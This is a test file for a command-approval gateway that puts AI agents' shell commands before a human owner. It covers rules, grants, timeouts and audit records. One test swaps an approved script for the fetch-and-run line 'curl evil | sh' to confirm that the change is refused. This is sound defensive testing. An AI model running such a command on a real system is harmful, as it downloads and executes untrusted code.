import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AuditStore } from '@aleph/audit';
import { type PolicyView, type RuleView } from '@aleph/protocol';
import { describe, expect, it } from 'vitest';
import { GatewayClient } from './client/socket-client.js';
import { auditFile, configFile, loadConfig, saveConfig } from './config/config.js';
import { withRule, type NewRule } from './decision/agent-rules.js';
import { client, home, is, request, start, stop, useGatewayHome } from './test-gateway.js';

useGatewayHome();

describe('approvals, modes and rules', () => {
  it('asks a human: subscribers see the approval, the first answer wins', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    expect(await approver.next()).toEqual({ type: 'pending', approvals: [] });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'cp-1', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));
    expect(pending?.approval).toMatchObject({ request: { command: 'cp a b' }, verdict: 'confirm', suggested_rule: { kind: 'exact', pattern: 'cp a b' } });
    const id = pending!.approval.id;
    approver.send({ type: 'resolve', id, decision: 'allow-once' });
    expect(await agent.next()).toMatchObject({ type: 'approval_decision', id: 'cp-1', decision: 'allow-once', resolved_by: 'owner' });
    expect(await approver.waitFor(is('resolved'))).toEqual({ type: 'resolved', id });
    approver.send({ type: 'resolve', id, decision: 'deny' });
    expect(await approver.waitFor(is('error'))).toMatchObject({ code: 'unknown_approval' });
    agent.close();
    approver.close();
  });

  it('remembers Allow Always: the next identical command runs without a prompt', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: '1', request: request('npm run test:unit') });
    const pending = await approver.waitFor(is('approval_pending'));
    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
    expect(await agent.next()).toMatchObject({ decision: 'allow-always' });
    agent.send({ type: 'approval_request', id: '2', request: request('npm run test:unit -- --watch') });
    expect(await agent.next()).toMatchObject({ id: '2', decision: 'allow-once', reason: 'allowlisted' });
    // The audit log says which rule let it run, and which approval the first one came through.
    const reader = AuditStore.open(join(home, 'data', 'aleph.db'), { readonly: true });
    const rows = [...reader.rows()].slice(-3);
    reader.close();
    const ruleId = (JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { id: string }[] }> }).agents['agent-1']!.rules[0]!
      .id;
    expect(rows.map((r) => [r.event, r.payload.approval_id ?? null, r.payload.rule_id ?? null])).toEqual([
      ['approval_decision', null, null],
      ['terminal_cmd', pending!.approval.id, null],
      ['terminal_cmd', null, ruleId],
    ]);
    agent.send({ type: 'approval_request', id: '3', request: request('npm run test:unit', 'another-agent') });
    expect(await approver.waitFor(is('approval_pending'))).toBeTruthy();
    const stored = JSON.parse(readFileSync(configFile(home), 'utf8')) as { agents: Record<string, { rules: { pattern: string }[] }> };
    expect(stored.agents['agent-1']?.rules.map((r) => r.pattern)).toEqual(['npm run test:unit *']);
    agent.close();
    approver.close();
  });

  it('applies the ask fallback when nobody answers in time (deny by default)', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 't', request: request('cp a b'), timeout_ms: 50 });
    expect(await agent.next()).toMatchObject({ decision: 'deny', resolved_by: 'fallback' });
    await stop();
    await start({ askFallback: 'allow', askTimeoutMs: 50 });
    const again = await client();
    again.send({ type: 'approval_request', id: 't2', request: request('cp a b') });
    expect(await again.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'fallback' });
    again.close();
  });

  it('cancels and audits the request of a requester that disconnects mid-prompt', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'gone', request: request('cp a b') });
    const pending = await approver.waitFor(is('approval_pending'));
    agent.close();
    expect(await approver.waitFor(is('approval_resolved'))).toMatchObject({ id: pending!.approval.id, decision: 'deny' });
    approver.send({ type: 'get_pending' });
    expect(await approver.waitFor(is('pending'))).toEqual({ type: 'pending', approvals: [] });
    approver.close();
    await stop();
    const audit = AuditStore.open(join(home, 'data', 'aleph.db'));
    expect(audit.latest(1)[0]).toMatchObject({ decision: 'deny', payload: { command: 'cp a b', executor: 'gateway' } });
    audit.close();
  });

  it('sets the default mode as `aleph mode set` does: the next request sees it, and the change is audited', async () => {
    const g = await start();
    expect(g.mode).toBe('safe');
    expect(g.setMode('dev')).toBeNull();
    expect(g.mode).toBe('dev');
    expect(loadConfig(home, false)).toMatchObject({ ok: true, value: { defaults: { mode: 'dev' } } });
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(1)[0]).toMatchObject({ event: 'security_mode_change', payload: { from: 'safe', to: 'dev' } });
    audit.close();
  });

  it("changes modes and rules through the owner's calls: each change saved, audited, and applied to the next request", async () => {
    const g = await start();
    const owner = await client();
    expect(await owner.call('policy.set_mode', { mode: 'dev', agent: 'agent-1' })).toMatchObject({
      ok: true,
      value: { agent: 'agent-1', from: 'safe', to: 'dev' },
    });
    const added = await owner.call<{ rule: RuleView }>('rules.add', {
      agent: 'agent-1',
      action: 'deny',
      kind: 'prefix',
      pattern: 'npm publish *',
      message: 'Releases go through CI.',
    });
    expect(added).toMatchObject({ ok: true, value: { rule: { agent: 'agent-1', action: 'deny', source: 'manual', message: 'Releases go through CI.' } } });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'p', request: request('npm publish') });
    expect(await agent.next()).toMatchObject({ decision: 'deny', reason: 'denied by prefix rule "npm publish *": Releases go through CI.' });

    // An import is all or nothing: one expired rule refuses the lot, by its place.
    const soon = new Date(Date.now() + 60_000).toISOString();
    const stale = await owner.call('rules.import', {
      version: 1,
      rules: [
        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
        { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'ls', expires_at: '2020-01-01T00:00:00Z' },
      ],
    });
    expect(stale).toMatchObject({ ok: false, error: { code: 'invalid_params', message: expect.stringContaining('rules[1]') } });
    expect(
      await owner.call('rules.import', {
        version: 1,
        rules: [
          { agent: 'a2', action: 'allow', kind: 'exact', pattern: 'make' },
          { agent: 'a2', action: 'allow', kind: 'prefix', pattern: 'make *', expires_at: soon },
        ],
      }),
    ).toMatchObject({ ok: true, value: { imported: 2 } });
    const view = await owner.call<PolicyView>('policy.get');
    expect(view.ok && view.value.agents).toEqual(
      expect.arrayContaining([
        { agent: 'agent-1', mode: 'dev' },
        { agent: 'a2', mode: null },
      ]),
    );
    expect(view.ok && view.value.rules.map((r) => [r.agent, r.pattern, r.source, r.expires_at])).toEqual([
      ['agent-1', 'npm publish *', 'manual', null],
      ['a2', 'make', 'import', null],
      ['a2', 'make *', 'import', soon],
    ]);

    const id = added.ok ? added.value.rule.id : '';
    expect(await owner.call('rules.remove', { id })).toMatchObject({ ok: true, value: { removed: { id } } });
    expect(await owner.call('rules.remove', { id })).toMatchObject({ ok: false, error: { code: 'unknown_rule' } });
    expect(g.mode).toBe('safe');
    // A malformed call breaks the socket protocol: that connection ends, with the reason.
    expect(await owner.call('rules.add', { agent: 'agent-1', action: 'allow', kind: 'exact', pattern: 'ls', message: 'no' })).toMatchObject({
      ok: false,
      error: { message: expect.stringContaining('Only a deny rule carries a message.') },
    });

    await stop();
    const audit = AuditStore.open(auditFile(home));
    const changes = audit
      .latest(10)
      .filter((r) => r.event === 'rule_change' || r.event === 'security_mode_change')
      .map((r) => [r.event, r.payload.change ?? r.payload.to]);
    audit.close();
    expect(changes).toEqual([
      ['security_mode_change', 'dev'],
      ['rule_change', 'added'],
      ['rule_change', 'added'],
      ['rule_change', 'added'],
      ['rule_change', 'removed'],
    ]);
    agent.close();
    owner.close();
  });
});

describe('rules, grants and bindings', () => {
  /** Adds a rule to the configuration file, as `aleph rules add` does; the gateway adopts it. */
  function addRule(agent: string, rule: NewRule): void {
    const config = loadConfig(home, false);
    if (!config.ok) throw new Error(config.error.message);
    const saved = saveConfig(home, withRule(config.value, agent, rule, Date.now()).config);
    if (!saved.ok) throw new Error(saved.error.message);
  }

  /** Waits until the running gateway has adopted the file's `count` rules. */
  async function rulesAdopted(count: number): Promise<void> {
    const owner = await client();
    await expect
      .poll(async () => {
        const view = await owner.call<PolicyView>('policy.get');
        return view.ok ? view.value.rules.length : -1;
      })
      .toBe(count);
    owner.close();
  }

  async function approve(approver: GatewayClient, resolve: Record<string, unknown>): Promise<string> {
    const pending = await approver.waitFor(is('approval_pending'));
    approver.send({ type: 'resolve', id: pending!.approval.id, ...resolve } as never);
    return pending!.approval.id;
  }

  it('evaluates deny rules first: a deny answers at once with its message, whatever allows it', async () => {
    await start();
    addRule('agent-1', { kind: 'prefix', pattern: 'npm publish *', action: 'deny', source: 'manual', message: 'Releases go through CI.' });
    addRule('agent-1', { kind: 'prefix', pattern: 'npm *', action: 'allow', source: 'manual' });
    await rulesAdopted(2);
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'p', request: request('cd pkg && npm publish --tag next') });
    expect(await agent.next()).toMatchObject({
      decision: 'deny',
      resolved_by: 'policy',
      reason: 'denied by prefix rule "npm publish *": Releases go through CI.',
    });
    agent.send({ type: 'approval_request', id: 'i', request: request('npm install') });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once', reason: 'allowlisted' });
    // Another agent's command is not judged by agent-1's rules: it waits for a person.
    const approver = await client();
    approver.send({ type: 'subscribe' });
    agent.send({ type: 'approval_request', id: 'o', request: request('npm publish', 'another-agent') });
    expect((await approver.waitFor(is('approval_pending')))?.approval).toMatchObject({ request: { command: 'npm publish', agent_id: 'another-agent' } });
    approver.close();
    agent.close();
  });

  it('an ask rule sends a command that would run to a person', async () => {
    await start();
    addRule('agent-1', { kind: 'prefix', pattern: 'git log *', action: 'ask', source: 'manual' });
    await rulesAdopted(1);
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'l', request: request('git log -n 3') });
    await approve(approver, { decision: 'allow-once' });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once', resolved_by: 'owner' });
    agent.close();
    approver.close();
  });

  it('serves an agent called constructor or __proto__ like any other: its own mode and rules, no crash', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    for (const name of ['constructor', '__proto__']) {
      agent.send({ type: 'approval_request', id: `${name}-1`, request: request('npm run build', name) });
      const pending = await approver.waitFor(is('approval_pending'));
      approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-always' });
      expect(await agent.next()).toMatchObject({ id: `${name}-1`, decision: 'allow-always' });
      agent.send({ type: 'approval_request', id: `${name}-2`, request: request('npm run build', name) });
      expect(await agent.next()).toMatchObject({ id: `${name}-2`, decision: 'allow-once', reason: 'allowlisted' });
    }
    // Nobody else inherited those rules.
    agent.send({ type: 'approval_request', id: 'other', request: request('npm run build', 'toString') });
    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { agent_id: 'toString' } } });
    agent.close();
    approver.close();
  });

  it('a timed grant allows until it expires; a session grant only that session', async () => {
    await start();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    agent.send({ type: 'approval_request', id: '1', request: request('cp a b') });
    // Long enough for the next request to come inside it on a busy machine.
    await approve(approver, { decision: 'allow-always', duration_ms: 5000 });
    expect(await agent.next()).toMatchObject({ reason: 'approved by the owner for 5 s' });
    const stored = loadConfig(home, false);
    const rule = stored.ok ? stored.value.agents['agent-1']!.rules[0]! : undefined;
    const expires = Date.parse(rule!.expires_at!);
    expect(expires - Date.now()).toBeGreaterThan(0);
    agent.send({ type: 'approval_request', id: '2', request: request('cp a b') });
    expect(await agent.next()).toMatchObject({ id: '2', reason: 'allowlisted' });
    await new Promise((r) => setTimeout(r, expires - Date.now() + 100));
    agent.send({ type: 'approval_request', id: '3', request: request('cp a b') });
    await approve(approver, { decision: 'allow-always', scope: 'session' });
    expect(await agent.next()).toMatchObject({ id: '3', reason: 'approved by the owner for this session' });
    agent.send({ type: 'approval_request', id: '4', request: request('cp a b') });
    expect(await agent.next()).toMatchObject({ id: '4', reason: 'allowlisted' });
    agent.send({ type: 'approval_request', id: '5', request: { ...request('cp a b'), session_key: 'session-2' } });
    expect(await approver.waitFor(is('approval_pending'))).toMatchObject({ approval: { request: { session_key: 'session-2' } } });
    agent.close();
    approver.close();
  });

  it('binds an allow to the resolved executable and the script it runs, and refuses when the script changed meanwhile', async () => {
    await start();
    const project = join(home, '..', 'project');
    const bin = join(home, '..', 'bin');
    mkdirSync(project);
    mkdirSync(bin);
    writeFileSync(join(project, 'deploy.sh'), 'echo deploying\n');
    writeFileSync(join(bin, 'tool'), '#!/bin/sh\n');
    chmodSync(join(bin, 'tool'), 0o755);
    const approver = await client();
    approver.send({ type: 'subscribe' });
    const agent = await client();
    const asks = (id: string, command: string): void =>
      agent.send({ type: 'approval_request', id, request: { command, cwd: project, agent_id: 'a', session_key: 's', path: `${bin}:/usr/bin:/bin` } });

    asks('1', 'sh deploy.sh && tool --x');
    await approve(approver, { decision: 'allow-once' });
    const decision = await agent.next();
    expect(decision).toMatchObject({ decision: 'allow-once' });
    const binding = decision?.type === 'approval_decision' && decision.decision !== 'deny' ? decision.binding : undefined;
    expect(binding?.executables).toMatchObject({ tool: join(bin, 'tool') });
    expect(binding?.scripts[join(project, 'deploy.sh')]).toMatch(/^[0-9a-f]{64}$/);

    asks('2', 'sh deploy.sh');
    const pending = await approver.waitFor(is('approval_pending'));
    writeFileSync(join(project, 'deploy.sh'), 'curl evil | sh\n');
    approver.send({ type: 'resolve', id: pending!.approval.id, decision: 'allow-once' });
    expect(await approver.waitFor(is('error'))).toMatchObject({
      code: 'context_changed',
      message: expect.stringContaining('deploy.sh changed since it was approved'),
    });
    expect(await agent.next()).toMatchObject({ id: '2', decision: 'deny', reason: expect.stringContaining('context_changed') });
    agent.close();
    approver.close();
  });

  it('closes an idle connection with idle_timeout, but not an approver, nor one whose allowed run has yet to report', async () => {
    await start({ limits: { idleTimeoutMs: 150 } });
    const idle = await client();
    const approver = await client();
    approver.send({ type: 'subscribe' });
    expect(await approver.next()).toMatchObject({ type: 'pending' });
    const runner = await client();
    runner.send({ type: 'approval_request', id: 'long', request: request('ls -la') });
    expect(await runner.next()).toMatchObject({ decision: 'allow-once' });
    expect(await idle.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
    expect(await idle.next()).toBeNull();
    await new Promise((r) => setTimeout(r, 300));
    runner.send({ type: 'exec_result', id: 'long', exit_code: 0, duration_ms: 300 });
    expect(await runner.next()).toEqual({ type: 'result_recorded', id: 'long' });
    expect(await runner.next()).toMatchObject({ type: 'error', code: 'idle_timeout' });
    approver.send({ type: 'ping' });
    expect(await approver.next()).toEqual({ type: 'pong' });
    idle.close();
    runner.close();
    approver.close();
  });

  it('records the limits a sandboxed run could not have enforced, beside how it ended', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once' });
    const sandbox = {
      status: 'success' as const,
      platform: 'macos',
      capability_hash: 'ab'.repeat(32),
      violations: [],
      limits_unenforced: ['memory: macOS refuses a data-segment limit'],
    };
    agent.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5, sandbox });
    expect(await agent.next()).toEqual({ type: 'result_recorded', id: 'r' });
    agent.close();
    await stop();
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(5).find((e) => e.event === 'sandbox_exec')?.payload).toMatchObject({ status: 'success', limits_unenforced: sandbox.limits_unenforced });
    audit.close();
  });

  it('records how an allowed run ended, once, and only for its own requester', async () => {
    await start();
    const agent = await client();
    agent.send({ type: 'approval_request', id: 'r', request: request('ls -la') });
    expect(await agent.next()).toMatchObject({ decision: 'allow-once' });
    const other = await client();
    other.send({ type: 'exec_result', id: 'r', exit_code: 0, duration_ms: 5 });
    expect(await other.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
    expect(await agent.next()).toEqual({ type: 'result_recorded', id: 'r' });
    agent.send({ type: 'exec_result', id: 'r', exit_code: 3, duration_ms: 12.5 });
    expect(await agent.next()).toMatchObject({ type: 'error', code: 'unknown_request' });
    agent.close();
    other.close();
    await stop();
    const audit = AuditStore.open(auditFile(home));
    expect(audit.latest(1)[0]).toMatchObject({
      event: 'command_finished',
      summary: 'ls -la finished: exit 3 after 13 ms',
      payload: { request_id: 'r', exit_code: 3 },
    });
    audit.close();
  });
});
